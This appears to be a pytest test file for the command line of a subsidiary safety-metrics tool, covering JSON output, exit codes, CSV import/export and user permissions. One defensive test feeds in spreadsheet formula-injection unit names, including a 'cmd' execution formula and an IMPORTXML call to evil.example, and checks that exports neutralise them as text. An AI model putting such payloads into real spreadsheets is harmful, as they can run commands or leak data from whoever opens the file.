"""The command line: documented JSON shapes, exit codes, and every command in the README."""
import argparse
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from metrics.cli.main import build_parser, main

ROOT = Path(__file__).resolve().parent.parent
UNIT_KEYS = {"subsidiary", "name", "sector", "score", "grade", "veto", "red", "yellow", "missing", "reported", "reason",
             "indicators"}


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory):
    path = tmp_path_factory.mktemp("cli") / "demo.duckdb"
    assert main(["init", "--demo", "--end-month", "2026-10", "--db", str(path)]) == 0
    return path


def run(capsys, *args):
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def test_score_json_has_the_documented_shape(demo_db, capsys):
    code, out, _ = run(capsys, "score", "--month", "2026-10", "--json", "--db", str(demo_db))
    assert code == 0
    doc = json.loads(out)
    assert {"month", "basis", "units", "group"} <= set(doc)
    assert (doc["month"], doc["basis"]) == ("2026-10", "ytd")
    assert len(doc["units"]) == 12
    for unit in doc["units"]:
        assert set(unit) == UNIT_KEYS
        assert unit["grade"] in {"A", "B", "C", "D", "veto", None}
        assert all(isinstance(unit[k], int) for k in ("red", "yellow", "missing"))
        assert len(unit["indicators"]) == 54  # the catalog: 38, and 16 only the hazard ledger counts
        for entry in unit["indicators"].values():
            assert set(entry) == {"value", "status", "score"}
            assert entry["status"] in {"green", "yellow", "red", "missing", "none"}
            assert entry["value"] is None or isinstance(entry["value"], float)
    vetoed = [u for u in doc["units"] if u["veto"]]
    assert [(u["subsidiary"], u["grade"], u["score"]) for u in vetoed] == [("CM03", "veto", 0.0)]
    silent = next(u for u in doc["units"] if u["subsidiary"] == "LG02")
    assert silent["missing"] > 0 and silent["indicators"]["injuries"] == {"value": None, "status": "missing",
                                                                          "score": 0.0}
    assert set(doc["group"]) >= {"indicators"}
    assert set(doc["group"]["indicators"]["injury_freq_rate"]) == {"value"}
    group = doc["group"]["indicators"]
    assert group["injury_freq_rate"]["value"] == pytest.approx(
        group["injuries"]["value"] * 1e6 / group["hours_worked"]["value"])


def test_score_month_basis_and_text_table(demo_db, capsys):
    code, out, _ = run(capsys, "score", "--month", "2026年10月", "--basis", "month", "--json", "--db", str(demo_db))
    assert code == 0 and json.loads(out)["basis"] == "month"
    code, out, _ = run(capsys, "score", "--month", "2026-10", "--db", str(demo_db))
    assert code == 0 and "北川煤矿" in out and "veto" in out


def test_breaches_json(demo_db, capsys):
    code, out, _ = run(capsys, "breaches", "--month", "2026-10", "--json", "--db", str(demo_db))
    doc = json.loads(out)
    assert code == 0 and doc["month"] == "2026-10"
    kinds = {(b["kind"], b["subsidiary"]) for b in doc["breaches"]}
    assert {("veto", "CM03"), ("missing", "LG02"), ("out_of_control", "CN02"), ("silence", "PW01")} <= kinds
    for b in doc["breaches"]:
        assert set(b) == {"kind", "severity", "subsidiary", "name", "indicator", "message_zh", "message_en",
                          "evidence"}


@pytest.mark.parametrize("now, kind, severity", [("2026-11-02T09:00", "pending", "info"),
                                                  ("2026-11-11T09:00", "missing", "medium")])
def test_a_unit_with_nothing_reported_before_and_after_the_deadline(demo_db, capsys, monkeypatch, now, kind, severity):
    """铁运公司 (LG02) has not reported October: no score, no grade, whatever the day; a note before the
    deadline of 10 November, a breach after it."""
    monkeypatch.setenv("SAFETY_NOW", now)
    _, out, _ = run(capsys, "score", "--month", "2026-10", "--json", "--db", str(demo_db))
    lg02 = next(u for u in json.loads(out)["units"] if u["subsidiary"] == "LG02")
    assert (lg02["score"], lg02["grade"], lg02["reported"], lg02["reason"], lg02["veto"]) == (
        None, None, False, "not_reported", False)
    assert all(v["status"] in ("missing", "none") for v in lg02["indicators"].values())
    _, out, _ = run(capsys, "breaches", "--month", "2026-10", "--json", "--db", str(demo_db))
    flags = [(b["kind"], b["severity"]) for b in json.loads(out)["breaches"] if b["subsidiary"] == "LG02"]
    assert flags == [(kind, severity)]


@pytest.mark.parametrize("args, fragment", [
    (["score"], "--month"),
    (["score", "--month", "2026-13"], "not a month"),
    (["score", "--month", "October"], "not a month"),
    (["score", "--month", "2026-10", "--basis", "quarter"], "invalid choice"),
    (["targets", "export"], "--year"),
    (["targets", "export", "--year", "26"], "not a year"),
    (["targets", "import", "/no/such/file.csv"], "no such file"),
    (["frobnicate"], "invalid choice"),
    ([], "COMMAND"),
])
def test_bad_arguments_exit_2_with_a_clear_message(args, fragment, capsys):
    code, _, err = run(capsys, *args)
    assert code == 2
    assert fragment in err


def test_missing_store_is_reported(tmp_path, capsys):
    code, _, err = run(capsys, "score", "--month", "2026-10", "--db", str(tmp_path / "none.duckdb"))
    assert code == 1 and "python -m metrics init" in err
    assert not (tmp_path / "none.duckdb").exists()


def test_units_and_targets_import_and_export(tmp_path, capsys):
    db = str(tmp_path / "s.duckdb")
    assert run(capsys, "init", "--db", db)[0] == 0
    units = tmp_path / "units.csv"
    units.write_text("code,name_zh,name_en,sector\nM1,一号煤矿,Mine No. 1,coal\nP1,电厂,Power plant,power\n",
                     encoding="utf-8")
    assert run(capsys, "units", "import", str(units), "--db", db)[0] == 0
    bad_units = tmp_path / "bad_units.csv"
    bad_units.write_text("code,name_zh,name_en,sector\nX1,某公司,Some Co,mining\n", encoding="utf-8")
    code, _, err = run(capsys, "units", "import", str(bad_units), "--db", db)
    assert code == 1 and "row 2, column sector, value 'mining'" in err
    targets = tmp_path / "targets.csv"
    targets.write_text("year,subsidiary,indicator,target,limit,weight,veto\n2026,*,fatalities,0,0,20,true\n"
                       "2026,M1,injuries,3,5,10,false\n", encoding="utf-8")
    assert run(capsys, "targets", "import", str(targets), "--db", db)[0] == 0
    out_file = tmp_path / "out.csv"
    assert run(capsys, "targets", "export", "--year", "2026", "--out", str(out_file), "--db", db)[0] == 0
    assert out_file.read_text(encoding="utf-8") == targets.read_text(encoding="utf-8")
    bad = tmp_path / "bad.csv"
    bad.write_text("year,subsidiary,indicator,target,limit,weight,veto\n2026,*,hours_worked,1,,1,false\n",
                   encoding="utf-8")
    code, _, err = run(capsys, "targets", "import", str(bad), "--db", db)
    assert code == 1 and "row 2, column indicator" in err and "no direction" in err
    code, out, _ = run(capsys, "targets", "export", "--year", "2026", "--db", db)
    assert out == targets.read_text(encoding="utf-8")  # the rejected file changed nothing


def test_every_file_the_commands_write_holds_formula_like_names_as_text(tmp_path, capsys):
    """Units named as an attacker would: the template (CSV, XLSX) and the targets export hold them as text."""
    import csv
    import io

    from openpyxl import load_workbook

    db = str(tmp_path / "s.duckdb")
    assert run(capsys, "init", "--db", db)[0] == 0
    units = tmp_path / "units.csv"
    units.write_text("code,name_zh,name_en,sector\nF1,=cmd|'/c calc'!A1,F1,coal\nF2,+1+1,F2,coal\n"
                     "+F3,\"@IMPORTXML(\"\"http://evil.example\"\",\"\"//a\"\")\",F3,coal\n", encoding="utf-8")
    assert run(capsys, "units", "import", str(units), "--db", db)[0] == 0
    expected = [["'+F3", '\'@IMPORTXML("http://evil.example","//a")'], ["F1", "'=cmd|'/c calc'!A1"], ["F2", "'+1+1"]]
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"template.{fmt}"
        code, _, err = run(capsys, "template", "--month", "2026-10", "--format", fmt, "--out", str(out), "--db", db)
        assert code == 0, err
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))[1:]
            assert [row[1:3] for row in rows] == expected
        else:
            sheet = load_workbook(out).worksheets[0]
            assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
            assert [[c.value for c in row[1:3]] for row in sheet.iter_rows(min_row=2)] == expected
    targets = tmp_path / "targets.csv"
    targets.write_text("year,subsidiary,indicator,target,limit,weight,veto\n2026,+F3,injuries,-1,0,10,false\n",
                       encoding="utf-8")
    assert run(capsys, "targets", "import", str(targets), "--db", db)[0] == 0
    code, out, _ = run(capsys, "targets", "export", "--year", "2026", "--db", db)
    assert out.splitlines()[1] == "2026,'+F3,injuries,-1,0,10,false"  # the code is text, the target a number


def test_init_demo_refuses_a_store_with_data(demo_db, capsys):
    code, _, err = run(capsys, "init", "--demo", "--db", str(demo_db))
    assert code == 1 and "already holds" in err


def test_python_dash_m_and_the_environment_variable(demo_db, tmp_path):
    env = {"SAFETY_DB": str(demo_db), "PATH": "/usr/bin:/bin"}
    done = subprocess.run([sys.executable, "-m", "metrics", "score", "--month", "2026-10", "--json"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert len(json.loads(done.stdout)["units"]) == 12
    done = subprocess.run([sys.executable, "-m", "metrics", "score"], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 2


def test_every_command_is_documented_in_the_readme():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    commands = next(a for a in build_parser()._actions if isinstance(a, argparse._SubParsersAction))
    for name, parser in commands.choices.items():
        actions = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
        for action in (actions[0].choices if actions else [None]):
            command = f"python -m metrics {name}" + (f" {action}" if action else "")
            listed = command in readme or (action and re.search(
                rf"python -m metrics {name} .*\b{action}\b", readme))
            assert listed, f"{command} is not in the README"


def test_group_lists_every_indicator_even_unreported(tmp_path, capsys):
    db = str(tmp_path / "empty.duckdb")
    assert run(capsys, "init", "--db", db)[0] == 0
    code, out, _ = run(capsys, "score", "--month", "2026-10", "--json", "--db", db)
    doc = json.loads(out)
    assert code == 0 and doc["units"] == []
    assert len(doc["group"]["indicators"]) == 54  # 38, and 16 only the hazard ledger counts
    assert all(v == {"value": None} for v in doc["group"]["indicators"].values())


def test_units_import_reads_what_excel_writes(tmp_path, capsys):
    """A units list saved by Chinese Excel (GBK) with sectors by their Chinese names."""
    db = str(tmp_path / "s.duckdb")
    assert run(capsys, "init", "--db", db)[0] == 0
    units = tmp_path / "units.csv"
    units.write_bytes("code,name_zh,name_en,sector\nM1,一号煤矿,Mine No. 1,煤矿\nC1,化工一厂,,化工\n".encode("gbk"))
    code, out, err = run(capsys, "units", "import", str(units), "--db", db)
    assert code == 0, err
    from metrics import store
    from metrics.store import schema
    with store.connect(db, read_only=True) as con:
        assert store.query(con, schema.SELECT_UNITS)[["code", "name_zh", "name_en", "sector"]].values.tolist() == [
            ["C1", "化工一厂", "化工一厂", "chemical"], ["M1", "一号煤矿", "Mine No. 1", "coal"]]


def test_init_demo_refuses_a_store_that_has_users(tmp_path, capsys):
    """A production store with its first administrator and nothing else yet: `init --demo` must not fill it
    and must not set demo mode (which opens the dashboard without signing in); the store stays as it was."""
    from metrics import access, store
    from metrics.ingest.initialise import DEMO_KEY
    from tests.builders import add_user

    db = tmp_path / "production.duckdb"
    assert run(capsys, "init", "--db", str(db))[0] == 0
    add_user(db, "admin")
    code, out, err = run(capsys, "init", "--demo", "--db", str(db))
    assert (code, out) == (1, "")
    assert err == (f"error: {db} has users, so it is not made a demo: demo mode opens the dashboard without "
                   f"signing in. No demo data was loaded; put the demo in a store of its own (another --db)\n")
    with store.connect(db, read_only=True) as con:
        assert store.meta(con, DEMO_KEY) is None and access.demo_user(con) is None
        assert store.scalar(con, "SELECT count(*) FROM subsidiaries") == 0
        assert store.scalar(con, "SELECT count(*) FROM observations") == 0


# CM02's stored values a CM01 user's file would be compared with (the demo, 2026-10): hours worked 574,142 the
# month before and 580,132 in the month, 2,825.5 employees, 840 staff requiring certification.
MIXED = ("month,subsidiary,indicator,value\n2026-10,CM01,staff_certified,99999\n2026-10,CM02,hours_worked,6000000\n"
         "2026-10,CM02,staff_certified,9999\n2026-08,CM02,near_misses,1\n")
NOT_YOURS = ("unit CM02 is not one of yours (CM01); remove its rows or ask the group safety department to upload "
             "them")


@pytest.fixture
def unit_user_db(demo_db, tmp_path):
    import shutil

    from tests.builders import add_user

    db = tmp_path / "s.duckdb"
    shutil.copy(demo_db, db)
    add_user(db, "admin")
    add_user(db, "cm01", "unit", ("CM01",))
    add_user(db, "exec", "executive")
    mixed = tmp_path / "mixed.csv"
    mixed.write_text(MIXED, encoding="utf-8")
    return db, mixed


@pytest.mark.parametrize("dry_run", [[], ["--dry-run"]], ids=["import", "dry-run"])
def test_import_as_a_unit_user_shows_nothing_of_another_unit(unit_user_db, capsys, dry_run):
    db, mixed = unit_user_db
    code, out, err = run(capsys, "import", str(mixed), "--as-user", "cm01", "--db", str(db), *dry_run)
    assert (code, out) == (1, "")
    assert err.splitlines() == [
        *(f"error: row {row}, column subsidiary, value 'CM02': {NOT_YOURS}" for row in (3, 4, 5)),
        "warning: row 2, column value, value '99999': more certified staff (99,999) than staff requiring "
        "certification (960)",
        "rejected: 3 errors, nothing written"]
    code, out, _ = run(capsys, "import", str(mixed), "--as-user", "cm01", "--json", "--db", str(db), *dry_run)
    doc = json.loads(out)
    assert (code, doc["status"], doc["error_count"], doc["warning_count"]) == (1, "rejected", 3, 1)
    assert [w["row"] for w in doc["warnings"]] == [2]
    assert not [figure for figure in ("574,142", "580,132", "2,825.5", "840") if figure in out]
    from metrics import store
    from metrics.store import audit
    with store.connect(db, read_only=True) as con:
        refused = audit.entries(con).iloc[0]
    assert (refused["actor"], refused["action"]) == ("cm01", "upload_rejected")


def test_import_as_an_unknown_or_an_executive_user_is_refused(unit_user_db, capsys):
    db, mixed = unit_user_db
    code, _, err = run(capsys, "import", str(mixed), "--as-user", "nobody", "--db", str(db))
    assert (code, err) == (1, "error: there is no active user 'nobody'; see `python -m metrics users list`\n")
    code, _, err = run(capsys, "import", str(mixed), "--as-user", "exec", "--db", str(db))
    assert (code, err) == (1, "error: an executive account is read only: it cannot upload or roll back data. Ask "
                              "the group safety department for access.\n")
    assert run(capsys, "import", str(mixed), "--as-user", "cm01", "--actor", "x", "--db", str(db))[0] == 2
